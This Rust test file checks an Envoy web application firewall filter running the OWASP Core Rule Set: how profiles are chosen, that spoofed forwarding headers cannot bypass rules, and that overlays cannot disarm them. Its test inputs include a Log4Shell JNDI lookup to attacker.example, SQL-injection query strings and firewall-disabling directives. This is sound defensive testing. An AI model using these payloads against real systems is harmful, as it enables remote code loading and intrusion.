//! Which rules a request gets in a real Envoy, and what a client cannot do about it.

use crate::client::{Request, VERSIONS, Version};
use crate::gateway::Gateway;
use serde_json::{Value, json};
use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr};
use std::time::{Duration, Instant};
use wasm_tests::project;

/// A request from an address of this machine that is not the loopback address rules know.
const ELSEWHERE: Ipv4Addr = Ipv4Addr::new(127, 0, 0, 2);
const MANAGER: &str = "/static_resources/listeners/0/filter_chains/0/filters/0/typed_config";

/// One request without a body, with any authority.
struct Ask<'a> {
    version: Version,
    source: Ipv4Addr,
    authority: &'a str,
    path: &'a str,
    headers: &'a [(&'a str, &'a str)],
}

impl Default for Ask<'_> {
    fn default() -> Self {
        Self {
            version: Version::Http1,
            source: ELSEWHERE,
            authority: "shop.example",
            path: "/",
            headers: &[],
        }
    }
}

impl Ask<'_> {
    /// The status of the answer, and its head and body.
    fn send(&self, gateway: &Gateway) -> (u16, String) {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        let answer = runtime.block_on(async {
            tokio::time::timeout(Duration::from_secs(30), self.exchange(gateway.address)).await
        });
        answer.expect("an answer in time")
    }

    fn status(&self, gateway: &Gateway) -> u16 {
        self.send(gateway).0
    }

    async fn exchange(&self, gateway: SocketAddr) -> (u16, String) {
        let socket = tokio::net::TcpSocket::new_v4().unwrap();
        socket.bind((self.source, 0).into()).unwrap();
        let stream = socket.connect(gateway).await.unwrap();
        if self.version == Version::Http2 {
            let (sender, connection) = h2::client::handshake(stream).await.unwrap();
            tokio::spawn(connection);
            let mut head = http::Request::get(format!("http://{}{}", self.authority, self.path));
            for (name, value) in self.headers {
                head = head.header(*name, *value);
            }
            let mut sender = sender.ready().await.unwrap();
            let (answer, _) = sender.send_request(head.body(()).unwrap(), true).unwrap();
            let (head, _) = answer.await.unwrap().into_parts();
            return (head.status.as_u16(), format!("{:?}", head.headers));
        }
        let mut stream = stream.into_std().unwrap();
        stream.set_nonblocking(false).unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(30)))
            .unwrap();
        let mut text = format!("GET {} HTTP/1.1\r\nhost: {}\r\n", self.path, self.authority);
        for (name, value) in self.headers {
            text.push_str(&format!("{name}: {value}\r\n"));
        }
        text.push_str("connection: close\r\n\r\n");
        stream.write_all(text.as_bytes()).unwrap();
        let answer = read_answer(&mut stream);
        let status = answer.get(9..12).and_then(|status| status.parse().ok());
        (
            status.unwrap_or_else(|| panic!("no answer: {answer}")),
            answer,
        )
    }
}

/// Head and body: Envoy keeps the connection open for a while.
fn read_answer(stream: &mut impl Read) -> String {
    let mut answer = Vec::new();
    let mut piece = [0; 4096];
    loop {
        let text = String::from_utf8_lossy(&answer);
        if let Some((head, body)) = text.split_once("\r\n\r\n") {
            let mut lines = head.lines();
            let length = lines.find_map(|line| line.strip_prefix("content-length: "));
            if length.and_then(|length| length.parse().ok()) <= Some(body.len()) {
                return text.into_owned();
            }
        }
        let count = stream.read(&mut piece).unwrap();
        if count == 0 {
            return String::from_utf8_lossy(&answer).into_owned();
        }
        answer.extend_from_slice(&piece[..count]);
    }
}

/// A profile that tells by its status that it was asked.
fn tells(status: u16) -> Value {
    json!([
        "SecRuleEngine On",
        format!("SecAction \"id:1,phase:1,deny,nolog,status:{status}\"")
    ])
}

fn named(profile: &str) -> Value {
    json!({ "filter_metadata": { "parapet": { "profile": profile } } })
}

fn profiles() -> Value {
    json!({
        "directives_map": {
            "by route": tells(441), "route": tells(442), "host": tells(443),
            "cluster": tells(444), "listener": tells(445), "authority": tells(446),
            "default": tells(447), "strictest": tells(448),
        },
        "per_route_directives": { "checkout/*": "by route" },
        "profile_metadata": {},
        "per_authority_directives": { "Known.example": "authority" },
        "default_directives": "default",
        "strictest_directives": "strictest",
    })
}

fn with_routes(example: &mut Value, listener: Option<&str>) {
    let mut other = example["static_resources"]["clusters"][0].clone();
    other["name"] = json!("other");
    other["metadata"] = named("cluster");
    example["static_resources"]["clusters"]
        .as_array_mut()
        .unwrap()
        .push(other);
    if let Some(profile) = listener {
        example["static_resources"]["listeners"][0]["metadata"] = named(profile);
    }
    let route = |prefix: &str, cluster: &str| json!({ "match": { "prefix": prefix }, "route": { "cluster": cluster } });
    let with = |mut route: Value, key: &str, value: Value| {
        route[key] = value;
        route
    };
    let manager = example.pointer_mut(MANAGER).unwrap();
    manager["route_config"]["virtual_hosts"] = json!([
        {
            "name": "host", "domains": ["host.example"], "metadata": named("host"),
            "routes": [with(route("/route", "other"), "metadata", named("route")),
                       route("/", "other")],
        },
        {
            "name": "everything", "domains": ["*"],
            "routes": [
                with(with(route("/named", "other"), "name", json!("checkout/1")),
                     "metadata", named("route")),
                with(route("/unknown", "upstream"), "metadata", named("nobody")),
                route("/cluster", "other"),
                route("/", "upstream"),
            ],
        },
    ]);
}

#[test]
fn routes_and_metadata_choose_before_the_authority() {
    let gateway = Gateway::start_example(&profiles(), |example| with_routes(example, None));
    for version in VERSIONS {
        for (authority, path, status) in [
            ("known.example", "/named", 441),
            ("host.example", "/route", 442),
            ("host.example", "/", 443),
            ("known.example", "/cluster", 444),
            ("known.example", "/unknown", 448),
            ("known.example", "/", 446),
            ("KNOWN.Example", "/", 446),
            ("known.example.", "/", 446),
            ("known.example:8080", "/", 446),
            ("KNOWN.EXAMPLE.:1", "/", 446),
            ("other.example", "/", 447),
        ] {
            let ask = Ask {
                version,
                authority,
                path,
                ..Ask::default()
            };
            assert_eq!(
                ask.status(&gateway),
                status,
                "{version:?} {authority} {path}"
            );
        }
    }
    assert_eq!(gateway.backend.connections(), 0);
    let log = gateway.log();
    let told = "the metadata of its route names the profile \"nobody\"";
    // Two workers tell of it once each.
    assert!((1..=2).contains(&log.matches(told).count()), "{log}");

    let gateway = Gateway::start_example(&profiles(), |example| {
        with_routes(example, Some("listener"))
    });
    for (authority, path, status) in [
        ("known.example", "/", 445),
        ("known.example", "/cluster", 444),
        ("host.example", "/", 443),
        ("known.example", "/named", 441),
    ] {
        let ask = Ask {
            authority,
            path,
            ..Ask::default()
        };
        assert_eq!(ask.status(&gateway), status, "{authority} {path}");
    }
}

/// The Core Rule Set with more directives before it, where `make crs` brought it.
fn crs(before: &str, more: Value) -> Option<Value> {
    if !project().join("rules/crs").is_dir() {
        assert!(
            std::env::var_os("PARAPET_REQUIRE_DATA").is_none(),
            "rules/crs is missing: run `make crs`"
        );
        return None;
    }
    let mut plugin = json!({
        "directives_map": { "base": { "directives": [
            "Include @demo-conf", "Include @crs-setup-conf", before, "Include @owasp_crs/*.conf",
        ] } },
        "default_directives": "base",
    });
    for (key, value) in more.as_object().unwrap() {
        match (
            plugin.get_mut(key).and_then(Value::as_object_mut),
            value.as_object(),
        ) {
            (Some(known), Some(value)) => known.extend(value.clone()),
            _ => plugin[key] = value.clone(),
        }
    }
    Some(plugin)
}

/// What CRS 905110 lets through from the loopback, with an attack in it.
const DUMMY: [(&str, &str); 2] = [
    ("user-agent", "Apache/2.4 (internal dummy connection)"),
    ("x-api-version", "${jndi:ldap://attacker.example/a}"),
];

#[test]
fn a_forged_address_changes_no_verdict() {
    const FORGED: [&str; 9] = [
        "127.0.0.1",
        "127.0.0.1:4711",
        "::1",
        "[::1]:4711",
        "::ffff:127.0.0.1",
        "127.0.0.1, 192.0.2.1",
        "192.0.2.1, 127.0.0.1",
        "localhost",
        "192.0.2.1",
    ];
    for (remote, trusted) in [(true, false), (false, false), (false, true)] {
        let Some(plugin) = crs("", json!({ "forwarded_trusted": trusted })) else {
            return;
        };
        let gateway = Gateway::start_changed(&plugin, |manager| {
            manager["use_remote_address"] = json!(remote);
        });
        for version in VERSIONS {
            for forged in FORGED {
                let headers = [DUMMY[0], DUMMY[1], ("x-forwarded-for", forged)];
                let ask = Ask {
                    version,
                    headers: &headers,
                    ..Ask::default()
                };
                let case = format!("remote {remote}, trusted {trusted}, {version:?}: {forged}");
                assert_eq!(ask.status(&gateway), 403, "{case}\n{}", gateway.log());
            }
        }
        assert_eq!(gateway.backend.connections(), 0);
        // The lever is there: who really comes from the loopback is let through by that rule.
        let local = Ask {
            source: Ipv4Addr::LOCALHOST,
            headers: &DUMMY,
            ..Ask::default()
        };
        assert_eq!(local.status(&gateway), 200, "{}", gateway.log());
    }
}

#[test]
fn a_chosen_request_id_steers_no_sampling_and_stands_in_the_log() {
    let sample = "SecAction \"id:1,phase:1,pass,nolog,setvar:tx.sampling_percentage=90\"";
    let Some(plugin) = crs(sample, json!({})) else {
        return;
    };
    // As Envoy does where use_remote_address is off.
    let gateway = Gateway::start_changed(&plugin, |manager| {
        manager["preserve_external_request_id"] = json!(true);
    });
    // Taken for UNIQUE_ID, these digits would put every request outside the sample.
    let id = "99999999-9999-4999-9999-999999999999";
    let headers = [
        DUMMY[1],
        ("user-agent", "Mozilla/5.0"),
        ("x-request-id", id),
    ];
    let ask = Ask {
        headers: &headers,
        ..Ask::default()
    };
    let denied = (0..40).filter(|_| ask.status(&gateway) == 403).count();
    assert!(denied > 20, "{denied} of 40\n{}", gateway.log());
    assert!(
        gateway.log().contains(&format!("[request_id \"{id}\"]")),
        "{}",
        gateway.log()
    );
    assert!(!gateway.log().contains(&format!("[unique_id \"{id}")));
}

#[test]
fn an_overlay_tunes_its_base_and_cannot_disarm_it() {
    let overlay = |directives: Value| {
        crs(
            "",
            json!({
                "directives_map": {
                    "shop": { "extends": "base", "overlay": true, "directives": directives },
                },
                "per_authority_directives": { "shop.example": "shop" },
            }),
        )
    };
    let Some(tuned) = overlay(json!([
        "SecRuleUpdateTargetByTag attack-sqli \"!ARGS:comment\"",
        "SecRule ARGS:secret \"@streq x\" \"id:10,phase:2,deny,status:410\"",
    ])) else {
        return;
    };
    let mut gateway = Gateway::start(&tuned);
    let statuses = |gateway: &Gateway, authority: &str| {
        [
            "/?comment=1%27%20OR%20%271%27=%271",
            "/?id=1%27%20OR%20%271%27=%271",
            "/?secret=x",
        ]
        .map(|path| {
            let headers = [("user-agent", "Mozilla/5.0"), ("accept", "*/*")];
            Ask {
                authority,
                path,
                headers: &headers,
                ..Ask::default()
            }
            .status(gateway)
        })
    };
    assert_eq!(
        statuses(&gateway, "shop.example"),
        [200, 403, 410],
        "{}",
        gateway.log()
    );
    assert_eq!(statuses(&gateway, "other.example"), [403, 403, 200]);
    for (directive, message) in [
        (
            "SecRuleEngine Off",
            "P0611: an overlay may not use SecRuleEngine",
        ),
        (
            "SecRuleRemoveById 949110",
            "P0615: an overlay may not change rule 949110",
        ),
        (
            "SecAction \"id:11,phase:1,allow\"",
            "P0612: an overlay may not use `allow`",
        ),
        (
            "SecAction \"id:11,phase:1,pass,ctl:ruleRemoveByTag=OWASP_CRS\"",
            "P0615: an overlay may not change rule 9",
        ),
        (
            "SecAction \"id:11,phase:1,pass,setvar:tx.inbound_anomaly_score_threshold=9999\"",
            "P0612: an overlay may not set tx.inbound_anomaly_score_threshold",
        ),
    ] {
        let before = gateway.log().len();
        let disarming = overlay(json!([directive])).unwrap().to_string();
        assert!(
            !gateway.update(&disarming),
            "{directive}: Envoy took the update"
        );
        let log = gateway.log().split_off(before);
        assert!(
            log.contains("directives_map.shop:1:"),
            "{directive}:\n{log}"
        );
        assert!(log.contains(message), "{directive}:\n{log}");
    }
    assert_eq!(statuses(&gateway, "shop.example"), [200, 403, 410]);
}

#[test]
fn shadows_denials_and_access_logs() {
    let plugin = json!({
        "directives_map": {
            "now": {
                "directives": [
                    "SecRuleEngine On",
                    "SecRule ARGS:a \"@streq evil\" \"id:1,phase:1,deny,setvar:tx.anomaly_score=5\"",
                ],
                "shadow": "next",
                "denial": {
                    "status": 418, "headers": { "x-rule": "%{rule_id}", "x-name": "%{request_id}" },
                },
            },
            "next": { "extends": "now", "directives": [
                "SecRequestBodyAccess On",
                "SecRule ARGS_POST:a \"@streq dim\" \"id:3,phase:2,deny\"",
                "SecRule ARGS:a \"@streq dark\" \"id:2,phase:1,deny,log,msg:'too dark'\"",
            ] },
        },
        "default_directives": "now",
        "filter_state": "all",
    });
    let gateway = Gateway::start_changed(&plugin, |manager| {
        manager["preserve_external_request_id"] = json!(true);
        let state = |name: &str| format!("%FILTER_STATE(wasm.parapet.{name}:PLAIN)%");
        let line = ["verdict", "rule", "score", "shadow_rule"]
            .map(state)
            .join(" ");
        manager["access_log"] = json!([{
            "name": "envoy.access_loggers.stderr",
            "typed_config": {
                "@type": "type.googleapis.com/envoy.extensions.access_loggers.stream.v3.StderrAccessLog",
                "log_format": { "text_format_source": {
                    "inline_string": format!("access %REQ(:PATH)% %RESPONSE_CODE% %RESPONSE_CODE_DETAILS% {line}\n"),
                } },
            },
        }]);
    });
    let ask = |path: &str| {
        let headers = [("x-request-id", "<b>7")];
        Ask {
            path,
            headers: &headers,
            ..Ask::default()
        }
        .send(&gateway)
    };
    assert_eq!(ask("/?a=fine").0, 200);
    assert_eq!(ask("/?a=dark").0, 200);
    let (status, answer) = ask("/?a=evil");
    assert_eq!(status, 418);
    assert!(
        answer.contains("x-rule: 1\r\n") && answer.contains("x-name: _b_7\r\n"),
        "{answer}"
    );
    // Only the shadow wants bodies: they pass as they come, and it sees them pass.
    for version in VERSIONS {
        let form = Request::form("/form", "b=1&a=dim");
        assert_eq!(gateway.send(version, &form).status, 200);
        assert_eq!(gateway.backend.last().unwrap().body, b"b=1&a=dim");
    }
    let log = gateway.log();
    let dim = "shadow \"next\" would have denied with 403 in phase 2 by rule 3";
    assert_eq!(log.matches(dim).count(), 2, "{log}");
    for text in [
        "[msg \"too dark\"]",
        "[shadow \"next\"]",
        "shadow \"next\" would have denied with 403 in phase 1 by rule 2",
    ] {
        assert!(log.contains(text), "{text} is missing:\n{log}");
    }
    let deadline = Instant::now() + Duration::from_secs(30);
    let lines = [
        "access /?a=fine 200 via_upstream pass - - -",
        "access /?a=dark 200 via_upstream pass - - 2",
        "access /?a=evil 418 waf_denied_rule_1 deny 1 5 1",
    ];
    while !lines.iter().all(|line| gateway.log().contains(line)) {
        assert!(Instant::now() < deadline, "{lines:?}\n{}", gateway.log());
        std::thread::sleep(Duration::from_millis(200));
    }
}
